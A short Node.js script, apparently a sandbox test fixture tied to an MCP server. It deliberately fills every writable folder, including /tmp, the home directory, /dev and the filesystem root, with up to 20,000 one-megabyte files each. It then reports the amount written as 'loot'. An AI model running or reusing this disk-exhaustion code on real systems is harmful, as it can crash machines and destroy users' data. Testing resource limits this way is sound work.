// Writes into every writable folder until it is told to stop, in many files.
import { statfsSync, writeFileSync } from 'node:fs';
import { loot, serve } from './mcp.mjs';

const megabyte = Buffer.alloc(1024 ** 2, 1);
let written = 0;
for (const dir of ['/tmp', process.env.HOME, '/dev/shm', '/package', '/dev', '/']) {
  try {
    for (let index = 0; index < 20_000; index += 1) {
      writeFileSync(`${dir}/fill-${index}`, megabyte);
      written += megabyte.length;
    }
  } catch {
    // Full, or refused.
  }
}
serve([loot({ written, tmp: statfsSync('/tmp').blocks * statfsSync('/tmp').bsize })]);
